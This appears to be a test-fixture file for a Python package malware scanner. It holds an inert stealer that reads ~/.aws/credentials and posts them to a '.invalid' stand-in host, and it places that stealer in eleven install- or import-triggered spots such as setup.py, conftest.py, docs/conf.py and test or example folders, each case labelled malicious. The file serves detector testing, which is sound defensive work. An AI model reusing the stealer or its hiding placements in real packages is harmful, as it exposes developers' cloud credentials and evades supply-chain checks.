"""Placements: the same inert credential stealer in folders whose names used to demote it.

Each stealer reads `~/.aws/credentials` and posts it to a `.invalid` host; what changes is
where it sits and how install or import reaches it.
"""

from __future__ import annotations

from techniques import Case

STEALER = '''\
import os
import urllib.request


def grab():
    path = os.path.expanduser("~/.aws/credentials")
    data = open(path).read() if os.path.exists(path) else ""
    urllib.request.urlopen("https://collect.x.invalid/u", data=data.encode())
'''
STEAL_AT_TOP = STEALER + "\n\ngrab()\n"
SETUP = "from setuptools import setup\n{pre}\nsetup(name='{name}', version='1.0')\n"

CASES = [
    Case("setup.py imports tests/helper.py", "placement-tests-helper", {
        "setup.py": SETUP.format(pre="import sys\nsys.path.insert(0, 'tests')\nimport helper\n"
                                 "helper.grab()", name="placement-tests-helper"),
        "tests/__init__.py": "",
        "tests/helper.py": STEALER,
    }, "malicious", ("PV303",)),
    Case("setup.py execs open('tests/...')", "placement-exec-open", {
        "setup.py": SETUP.format(pre="exec(open('tests/bootstrap_env.py').read())",
                                 name="placement-exec-open"),
        "tests/bootstrap_env.py": STEAL_AT_TOP,
    }, "malicious", ("PV303",)),
    Case("package imports mypkg/test_support.py", "placement-test-support", {
        "mypkg/__init__.py": "from mypkg import test_support\n",
        "mypkg/test_support.py": STEAL_AT_TOP,
    }, "malicious", ("PV303",), kind="wheel"),
    Case("package imports mypkg/tests/", "placement-pkg-tests", {
        "mypkg/__init__.py": "from .tests import fixtures  # noqa\n",
        "mypkg/tests/__init__.py": "",
        "mypkg/tests/fixtures.py": STEAL_AT_TOP,
    }, "malicious", ("PV303",), kind="wheel"),
    Case("package calls into mypkg/examples/", "placement-examples-call", {
        "mypkg/__init__.py": "from mypkg.examples.demo import grab\n\ngrab()\n",
        "mypkg/examples/__init__.py": "",
        "mypkg/examples/demo.py": STEALER,
    }, "malicious", ("PV303",), kind="wheel"),
    Case("package imports mypkg/benchmarks/", "placement-benchmarks", {
        "mypkg/__init__.py": "import mypkg.benchmarks.timing\n",
        "mypkg/benchmarks/__init__.py": "",
        "mypkg/benchmarks/timing.py": STEAL_AT_TOP,
    }, "malicious", ("PV303",), kind="wheel"),
    Case("installed top-level package named testing", "testing", {
        "testing/__init__.py": STEAL_AT_TOP,
    }, "malicious", ("PV303",), kind="wheel"),
    Case("root conftest.py imported by setup.py", "placement-conftest", {
        "setup.py": SETUP.format(pre="import conftest", name="placement-conftest"),
        "conftest.py": STEAL_AT_TOP,
    }, "malicious", ("PV303",)),
    Case("docs/conf.py imported through sys.path", "placement-docs-conf", {
        "setup.py": SETUP.format(pre="import os, sys\nsys.path.append(os.path.join("
                                 "os.path.dirname(__file__), 'docs'))\nimport conf",
                                 name="placement-docs-conf"),
        "docs/conf.py": "project = 'x'\n" + STEAL_AT_TOP,
    }, "malicious", ("PV303",)),
    Case("stealer in a wheel package named sample_utils", "sample-utils", {
        "sample_utils/__init__.py": STEAL_AT_TOP,
    }, "malicious", ("PV303",), kind="wheel"),
    Case("stealer in a wheel package named demo_client", "demo-client", {
        "demo_client/__init__.py": "from .core import *  # noqa\n",
        "demo_client/core.py": STEAL_AT_TOP,
    }, "malicious", ("PV303",), kind="wheel"),
]
